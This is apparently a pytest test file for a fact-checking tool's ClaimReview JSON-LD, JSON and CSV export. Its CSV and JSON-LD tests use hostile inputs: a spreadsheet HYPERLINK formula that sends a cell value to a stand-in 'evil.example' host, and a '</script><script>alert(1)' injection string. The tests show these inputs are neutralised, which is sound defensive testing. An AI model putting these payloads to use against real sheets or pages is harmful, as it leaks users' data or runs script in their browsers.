"""The export: ClaimReview JSON-LD with Google's required and recommended fields, the DataFeed,
factcheck's JSON and CSV.  Field names are checked against /work/shared/research/field-notes.md A1."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from factcheck.claimreview import (
    APPEARANCE_NOTE,
    BEST_RATING,
    FIRST_APPEARANCE_NOTE,
    ID_PROPERTY,
    RATING_VALUES,
    WORST_RATING,
    ExportSettings,
    claim_review,
    data_feed,
    export_warnings,
    imported_review_note,
    leading_source,
    review_url,
)
from factcheck.csvclaims import CSV_COLUMNS, FORMULA_STARTS, _as_text, csv_text, spreadsheet_safe
from factcheck.errors import InputError
from factcheck.exporting import ExportFormat, export_settings, export_text
from factcheck.model import Claim, KnowledgeBase, Publisher, Source, Verdict
from factcheck.store import load_knowledge_base

FIXTURES = Path(__file__).parent / "fixtures"
SETTINGS = ExportSettings(
    base_url="https://factdesk.example.org/checks/",
    publisher=Publisher("Test Fact Desk", "https://factdesk.example.org"),
    language="en",
)
FULL = Claim(
    id="moon-cheese",
    claim="The Moon is made of green cheese.",
    verdict=Verdict.MOSTLY_FALSE,
    summary="Lunar samples are rock and dust.",
    aliases=("The moon is cheese",),
    tags=("space", "food"),
    claimant="Wallace",
    checked="2024-04-01",
    original_rating="Pants on Fire",
    sources=(
        Source(
            url="https://example.org/lunar-samples",
            title="What lunar samples are made of",
            publisher="Example Space Agency",
            date="2019-07-20",
            quote="The samples are basalt and breccia.",
            note="primary source",
        ),
        Source(url="https://example.org/posts/cheese", note=APPEARANCE_NOTE),
        Source(url="https://example.org/posts/first", date="2024-03-30", note=FIRST_APPEARANCE_NOTE),
    ),
)


def test_a_claim_review_has_every_required_and_recommended_field() -> None:
    review = claim_review(FULL, SETTINGS)
    assert review["@context"] == "https://schema.org"
    assert review["@type"] == "ClaimReview"
    # REQUIRED: claimReviewed, reviewRating (with alternateName), url
    assert review["claimReviewed"] == FULL.claim
    assert review["reviewRating"]["@type"] == "Rating"
    assert review["reviewRating"]["alternateName"] == "Mostly false"
    assert review["url"] == "https://factdesk.example.org/checks/moon-cheese"
    # RECOMMENDED: author, datePublished, itemReviewed (Claim with author), Rating numbers
    assert review["author"] == {
        "@type": "Organization",
        "name": "Test Fact Desk",
        "url": "https://factdesk.example.org",
    }
    assert review["datePublished"] == "2024-04-01"
    item = review["itemReviewed"]
    assert item["@type"] == "Claim"
    assert item["author"] == {"name": "Wallace"}
    assert item["appearance"] == [
        {
            "@type": "CreativeWork",
            "url": "https://example.org/posts/cheese",
            "comment": {"@type": "Comment", "text": APPEARANCE_NOTE},
        },
        {
            "@type": "CreativeWork",
            "url": "https://example.org/posts/first",
            "datePublished": "2024-03-30",
            "comment": {"@type": "Comment", "text": FIRST_APPEARANCE_NOTE},
        },
    ]
    assert item["firstAppearance"]["url"] == "https://example.org/posts/first"
    assert item["firstAppearance"]["datePublished"] == "2024-03-30"
    assert review["reviewRating"]["ratingValue"] == 2
    assert review["reviewRating"]["bestRating"] == BEST_RATING == 6
    assert review["reviewRating"]["worstRating"] == WORST_RATING == 1
    # the rest of the claim
    assert review["reviewBody"] == FULL.summary
    assert review["keywords"] == ["space", "food"]
    assert review["inLanguage"] == "en"
    assert item["alternateName"] == ["The moon is cheese"]
    assert review["identifier"] == {"@type": "PropertyValue", "propertyID": ID_PROPERTY, "value": "moon-cheese"}
    assert review["associatedClaimReview"]["reviewRating"]["alternateName"] == "Pants on Fire"


def test_every_source_but_where_the_claim_appeared_is_a_citation_with_all_its_fields_in_order() -> None:
    citations = claim_review(FULL, SETTINGS)["citation"]
    # the claimant's posts are where the claim appeared (itemReviewed), not the review's evidence
    assert [c["url"] for c in citations] == [s.url for s in FULL.sources[:-2]]
    assert citations[0] == {
        "@type": "CreativeWork",
        "url": "https://example.org/lunar-samples",
        "name": "What lunar samples are made of",
        "publisher": {"@type": "Organization", "name": "Example Space Agency"},
        "datePublished": "2019-07-20",
        "hasPart": {"@type": "Quotation", "text": "The samples are basalt and breccia."},
        "comment": {"@type": "Comment", "text": "primary source"},
    }


def test_evidence_is_never_presented_as_where_the_claim_appeared() -> None:
    claim = Claim(id="x", claim="Some claim.", verdict=Verdict.FALSE, sources=(Source(url="https://example.org/e"),))
    item = claim_review(claim, SETTINGS)["itemReviewed"]
    assert "appearance" not in item and "firstAppearance" not in item


def test_the_numeric_scale_gives_each_verdict_its_own_value_in_scale_order() -> None:
    values = [claim_review(FULL.__class__(id="x", claim="c", verdict=v), SETTINGS)["reviewRating"] for v in Verdict]
    numbered = [r["ratingValue"] for r in values if "ratingValue" in r]
    assert numbered == [6, 5, 4, 3, 2, 1]  # true ... false, all different
    assert set(RATING_VALUES) == set(Verdict) - {Verdict.UNSUPPORTED}
    labels = [r["alternateName"] for r in values]
    assert labels == ["True", "Mostly true", "Mixed", "Misleading", "Mostly false", "False", "Unsupported"]


def test_unsupported_carries_no_number() -> None:
    claim = Claim(id="x", claim="Some claim.", verdict=Verdict.UNSUPPORTED)
    assert claim_review(claim, SETTINGS)["reviewRating"] == {"@type": "Rating", "alternateName": "Unsupported"}


def test_empty_fields_are_left_out_not_written_empty() -> None:
    review = claim_review(
        Claim(id="bare", claim="A bare claim.", verdict=Verdict.TRUE), ExportSettings("https://x.example.org/")
    )
    assert set(review) == {"@context", "@type", "url", "claimReviewed", "reviewRating", "itemReviewed", "identifier"}
    assert review["itemReviewed"] == {"@type": "Claim"}


@pytest.mark.parametrize(
    ("base", "url"),
    [
        ("https://x.example.org/checks/", "https://x.example.org/checks/an-id"),
        ("https://x.example.org/checks", "https://x.example.org/checks/an-id"),
        ("https://x.example.org/page#", "https://x.example.org/page#an-id"),
        ("https://x.example.org/check?id=", "https://x.example.org/check?id=an-id"),
    ],
)
def test_review_url_is_the_base_url_and_the_id(base: str, url: str) -> None:
    assert review_url(base, "an-id") == url


def test_warnings_name_long_claims_undated_claims_and_a_missing_author() -> None:
    long = Claim(id="long", claim="word " * 20, verdict=Verdict.TRUE, checked="2024")
    undated = Claim(id="undated", claim="Short.", verdict=Verdict.TRUE)
    warnings = export_warnings([long, undated], ExportSettings("https://x.example.org/"))
    assert any("1 claim longer than 75 characters" in w and "long" in w for w in warnings)
    assert any("1 claim without a checked date" in w and "undated" in w for w in warnings)
    # the library's parameters: it said "give --publisher-name (and --publisher-url)", the command's options
    assert any(w.startswith("no author: give publisher_name (and publisher_url) or") for w in warnings)
    assert not any("--" in w for w in warnings)
    assert export_warnings([undated], SETTINGS) == [w for w in warnings if "undated" in w]


IMPORTED = Claim(
    id="hot-water",
    claim="Hot water kills the virus.",
    verdict=Verdict.FALSE,
    checked="2020-03-12",
    original_rating="Pants on Fire",
    sources=(
        Source(
            url="https://www.politifact.com/factchecks/hot-water/",
            title="No, hot water does not kill the virus",
            publisher="PolitiFact",
            date="2020-03-12",
            note=imported_review_note("Pants on Fire"),
        ),
        Source(
            url="https://www.washingtonpost.com/hot-water/", publisher="Washington Post", note="rated “Four Pinocchios”"
        ),
    ),
)
POLITIFACT_REVIEW = {
    "@type": "ClaimReview",
    "url": "https://www.politifact.com/factchecks/hot-water/",
    "name": "No, hot water does not kill the virus",
    "author": {"@type": "Organization", "name": "PolitiFact"},
    "datePublished": "2020-03-12",
    "reviewRating": {"@type": "Rating", "alternateName": "Pants on Fire"},
}


def test_an_imported_fact_check_is_credited_to_its_publisher() -> None:
    # Someone else's fact-check is an associated ClaimReview with its url and author, not a mere citation.
    review = claim_review(IMPORTED, SETTINGS)
    assert review["associatedClaimReview"] == POLITIFACT_REVIEW
    assert [c["url"] for c in review["citation"]] == [s.url for s in IMPORTED.sources]  # still cited


def test_the_original_rating_comes_first_among_associated_reviews() -> None:
    edited = claim_review(replace(IMPORTED, original_rating="False"), SETTINGS)["associatedClaimReview"]
    # the edited rating replaces the publisher's: one rating is published, not both
    assert edited == [
        {"@type": "ClaimReview", "reviewRating": {"@type": "Rating", "alternateName": "False"}},
        {k: v for k, v in POLITIFACT_REVIEW.items() if k != "reviewRating"},
    ]
    # original_rating removed: the publisher's page is still named, its rating no longer published
    removed = claim_review(replace(IMPORTED, original_rating=None), SETTINGS)["associatedClaimReview"]
    assert removed == {k: v for k, v in POLITIFACT_REVIEW.items() if k != "reviewRating"}


def test_warnings_name_claims_carrying_another_publishers_rating() -> None:
    own = Claim(id="own", claim="Short.", verdict=Verdict.TRUE, checked="2024")
    assert export_warnings([own, IMPORTED], SETTINGS) == [
        "1 claim carries another publisher's rating (imported): review them before publishing them as your own: "
        "hot-water"
    ]
    assert export_warnings([own], SETTINGS) == []


def test_a_claim_is_never_shortened_to_please_google() -> None:
    text = "A claim that goes on and on, well beyond the seventy-five characters Google advises for it."
    assert claim_review(Claim(id="x", claim=text, verdict=Verdict.TRUE), SETTINGS)["claimReviewed"] == text


def test_the_data_feed_has_the_data_commons_shape() -> None:
    kb = load_knowledge_base(FIXTURES / "mini_claims.yaml")
    feed = data_feed(kb.claims, SETTINGS)
    assert feed["@context"] == "https://schema.org" and feed["@type"] == "DataFeed"
    elements = feed["dataFeedElement"]
    assert len(elements) == len(kb)
    for element, claim in zip(elements, kb.claims, strict=True):
        assert element["@type"] == "DataFeedItem"
        (review,) = element["item"]
        assert review["@type"] == "ClaimReview" and "@context" not in review
        assert review["claimReviewed"] == claim.claim


# -- JSON-LD ----------------------------------------------------------------------------------------

# A minimal stand-in for the schema.org context (which pyld would fetch from the network): every
# term is in the schema.org vocabulary, and URLs are node references as schema.org declares them.
SCHEMA_CONTEXT = {"@context": {"@vocab": "https://schema.org/", "url": {"@type": "@id"}}}
# Every property the export may write, as named in the field notes (A1) and schema.org.
SCHEMA_PROPERTIES = {
    "claimReviewed", "reviewRating", "url", "author", "datePublished", "itemReviewed", "reviewBody",
    "keywords", "inLanguage", "citation", "associatedClaimReview", "identifier", "appearance",
    "firstAppearance", "alternateName", "ratingValue", "bestRating", "worstRating", "name", "publisher",
    "hasPart", "text", "comment", "propertyID", "value", "dataFeedElement", "item",
}  # fmt: skip


def _expand(document: Any) -> list[dict[str, Any]]:
    jsonld = pytest.importorskip("pyld.jsonld")

    def offline_loader(url: str, options: Any = None) -> dict[str, Any]:
        if url.rstrip("/") in ("https://schema.org", "http://schema.org"):
            return {
                "contentType": "application/ld+json",
                "contextUrl": None,
                "documentUrl": url,
                "document": SCHEMA_CONTEXT,
            }
        raise AssertionError(f"the test tried to load {url}")

    expanded: list[dict[str, Any]] = jsonld.expand(document, {"documentLoader": offline_loader})
    return expanded


def _properties(node: Any) -> set[str]:
    found: set[str] = set()
    if isinstance(node, dict):
        for key, value in node.items():
            if not key.startswith("@"):
                found.add(key)
            found |= _properties(value)
    elif isinstance(node, list):
        for value in node:
            found |= _properties(value)
    return found


def test_the_export_expands_as_json_ld_to_schema_org_terms_only() -> None:
    document = json.loads(export_text([FULL], ExportFormat.CLAIMREVIEW, SETTINGS, feed=False))
    (review,) = _expand(document)
    schema = "https://schema.org/"
    assert review["@type"] == [schema + "ClaimReview"]
    assert review[schema + "claimReviewed"] == [{"@value": FULL.claim}]
    assert review[schema + "url"] == [{"@id": "https://factdesk.example.org/checks/moon-cheese"}]
    rating = review[schema + "reviewRating"][0]
    assert rating["@type"] == [schema + "Rating"]
    assert rating[schema + "alternateName"] == [{"@value": "Mostly false"}]
    assert rating[schema + "ratingValue"] == [{"@value": 2}]
    item = review[schema + "itemReviewed"][0]
    assert item["@type"] == [schema + "Claim"]
    assert item[schema + "author"][0][schema + "name"] == [{"@value": "Wallace"}]
    properties = _properties(review)
    assert all(p.startswith(schema) for p in properties)
    assert {p.removeprefix(schema) for p in properties} <= SCHEMA_PROPERTIES


def test_the_feed_expands_as_json_ld() -> None:
    kb = load_knowledge_base(FIXTURES / "mini_claims.yaml")
    (feed,) = _expand(json.loads(export_text(kb.claims, ExportFormat.CLAIMREVIEW, SETTINGS, feed=True)))
    schema = "https://schema.org/"
    assert feed["@type"] == [schema + "DataFeed"]
    items = [e[schema + "item"][0] for e in feed[schema + "dataFeedElement"]]
    assert [i["@type"] for i in items] == [[schema + "ClaimReview"]] * len(kb)
    assert {p.removeprefix(schema) for p in _properties(feed)} <= SCHEMA_PROPERTIES


# -- settings ------------------------------------------------------------------------------------------


def test_settings_come_from_the_options_first_then_the_claims_file() -> None:
    kb = load_knowledge_base(FIXTURES / "mini_claims.yaml")
    from_file = export_settings(kb)
    assert from_file.base_url == "https://factdesk.example.org/checks/"
    assert from_file.publisher == Publisher("Test Fact Desk", "https://factdesk.example.org")
    given = export_settings(kb, base_url="https://other.example.org/", publisher_name="Other Desk")
    assert given.base_url == "https://other.example.org/"
    assert given.publisher == Publisher("Other Desk", "https://factdesk.example.org")


def test_no_base_url_is_an_error_and_no_domain_is_invented() -> None:
    # the library's caller is told of its parameter: it said "give --base-url", the command's option
    with pytest.raises(InputError, match="give base_url ") as caught:
        export_settings(KnowledgeBase((), "claims.yaml"))
    assert "--" not in str(caught.value)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"base_url": "factcheck.example.org/claims"}, r"not an http\(s\) URL"),
        (
            {"base_url": "https://x.example.org/", "publisher_url": "https://x.example.org"},
            "^publisher_url needs publisher_name ",
        ),
        ({"base_url": "https://x.example.org/", "publisher_name": " "}, "^publisher_name is blank"),
        (
            {"base_url": "https://x.example.org/", "publisher_name": "X", "publisher_url": "x.org"},
            r"not an http\(s\) URL",
        ),
        # the id goes at the end of the base URL: a query or fragment would swallow it
        ({"base_url": "https://x.example.org/checks?lang=en"}, "has a query or fragment"),
        ({"base_url": "https://x.example.org/checks#top"}, "has a query or fragment"),
    ],
)
def test_bad_settings_are_refused(options: dict[str, str], message: str) -> None:
    with pytest.raises(InputError, match=message):
        export_settings(KnowledgeBase((), "claims.yaml"), **options)


def test_settings_of_the_wrong_type_are_a_type_error_naming_them() -> None:
    # export_settings(None, ...) failed with "'NoneType' object has no attribute 'base_url'", and
    # base_url=1 deep inside urllib with "'int' object has no attribute 'decode'"
    with pytest.raises(
        TypeError, match=r"export_settings takes a KnowledgeBase \(load_knowledge_base\(path\)\), not NoneType"
    ):
        export_settings(None, base_url="https://x.example.org/")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match=r"base_url must be text \(str\) or None, not int"):
        export_settings(KnowledgeBase((), "claims.yaml"), base_url=1)  # type: ignore[arg-type]


@pytest.mark.parametrize("feed", [False, True])
def test_claim_review_json_ld_can_be_pasted_into_a_script_element(feed: bool) -> None:
    hostile = replace(FULL, claim="Trams run on diesel </script><script>alert(1)</script> & <!-- more")
    document = export_text([hostile], ExportFormat.CLAIMREVIEW, SETTINGS, feed=feed)
    assert "<" not in document and ">" not in document and "&" not in document
    assert hostile.claim in json.dumps(json.loads(document), ensure_ascii=False)  # the same values


def test_no_publisher_means_no_author() -> None:
    settings = export_settings(KnowledgeBase((), "claims.yaml"), base_url="https://x.example.org/")
    assert settings.publisher is None
    assert "author" not in claim_review(FULL, settings)


# -- JSON and CSV -----------------------------------------------------------------------------------------


def test_json_export_is_the_claims_as_the_yaml_names_them() -> None:
    kb = load_knowledge_base(FIXTURES / "mini_claims.yaml")
    assert json.loads(export_text(kb.claims, ExportFormat.JSON, None, feed=False)) == [c.to_dict() for c in kb.claims]


def test_export_text_takes_a_format_by_its_name() -> None:
    # ExportFormat is a StrEnum, but "csv" (not ExportFormat.CSV) used to export ClaimReview JSON-LD
    assert export_text([FULL], "csv", SETTINGS, feed=False) == csv_text([FULL])  # type: ignore[arg-type]
    assert export_text([FULL], "json", None, feed=False) == export_text([FULL], ExportFormat.JSON, None, feed=False)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=r"fmt='yaml' is not one of 'claimreview', 'json', 'csv', 'markdown'\.$"):
        export_text([FULL], "yaml", SETTINGS, feed=False)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="ClaimReview export needs its settings"):
        export_text([FULL], ExportFormat.CLAIMREVIEW, None, feed=False)


def test_csv_has_one_row_per_claim_with_stable_columns() -> None:
    rows = list(
        csv.reader(io.StringIO(csv_text([FULL, Claim(id="bare", claim='Bare, "quoted".', verdict=Verdict.TRUE)])))
    )
    assert rows[0] == list(CSV_COLUMNS)
    assert CSV_COLUMNS[:6] == ("id", "claim", "verdict", "summary", "claimant", "checked")
    full = dict(zip(rows[0], rows[1], strict=True))
    assert full["id"] == "moon-cheese" and full["verdict"] == "mostly-false"
    assert full["tags"] == "space;food"
    assert full["aliases"] == "The moon is cheese"
    assert full["source_count"] == "3"
    assert full["source_urls"].split(" ") == [s.url for s in FULL.sources]
    bare = dict(zip(rows[0], rows[2], strict=True))
    assert bare["claim"] == 'Bare, "quoted".' and bare["tags"] == "" and bare["source_count"] == "0"
    assert len(rows) == 3


def test_csv_keeps_line_breaks_inside_a_cell() -> None:
    claim = Claim(id="x", claim="c", verdict=Verdict.TRUE, summary="one\ntwo", aliases=("a", "b"))
    (row,) = list(csv.DictReader(io.StringIO(csv_text([claim]))))
    assert row["summary"] == "one\ntwo" and row["aliases"] == "a\nb"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_marked_as_text(start: str) -> None:
    hostile = start + 'HYPERLINK("http://evil.example/?leak="&A1, "click")'
    claim = Claim(id="x", claim=hostile, verdict=Verdict.TRUE, summary=hostile, claimant=hostile, aliases=(hostile,))
    (row,) = list(csv.DictReader(io.StringIO(csv_text([claim]))))
    for column in ("claim", "summary", "claimant", "aliases"):
        assert row[column] == "'" + hostile
    # ordinary text, inner formula characters and the JSON export are untouched
    plain = Claim(id="y", claim="Costs fell -3% (a+b=c) @ noon", verdict=Verdict.TRUE)
    (row,) = list(csv.DictReader(io.StringIO(csv_text([plain]))))
    assert row["claim"] == plain.claim
    assert json.loads(export_text([claim], ExportFormat.JSON, None, feed=False))[0]["claim"] == hostile


@given(st.text())
def test_no_csv_cell_starts_as_a_formula(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (value, "'" + value)


@pytest.mark.parametrize("lead", ["  ", "\n", "\r\n", " \t", "\x00", "\x0b", "\u00a0", "'  ", "\x1f"])
def test_a_formula_after_leading_spaces_or_control_characters_is_marked_as_text_too(lead: str) -> None:
    # LibreOffice's import with "Trim spaces" and "Evaluate formulas" runs '  =HYPERLINK(...)'; posts and claims
    # from others are written by whoever targets the sheet's reader
    hostile = lead + '=HYPERLINK("http://e.x/"&A1)'
    assert spreadsheet_safe(hostile) == "'" + hostile
    assert _as_text(spreadsheet_safe(hostile)) == hostile  # import gives it back as it was
    plains = ["a =1", " 3 - 2"] + ([] if lead.startswith(FORMULA_STARTS) else [lead + "hello", lead + "'quoted'"])
    for plain in plains:
        assert spreadsheet_safe(plain) == plain
        assert _as_text(plain) == plain


@given(st.text())
def test_import_reads_back_every_cell_export_neutralised(value: str) -> None:
    assert _as_text(spreadsheet_safe(value)) == value


def test_the_source_scan_names_says_what_a_hand_written_appearance_is() -> None:
    # '(Where the claim appeared.; no evidence)' repeated the note as written, full stop and all
    source = Source(url="https://facebook.com/somepost/123", note=" Where the claim appeared. ")
    claim = Claim(id="hot-water", claim="Hot water cures COVID-19.", verdict=Verdict.FALSE, sources=(source,))
    assert leading_source(claim) == (source, "where the claim appeared; no evidence")
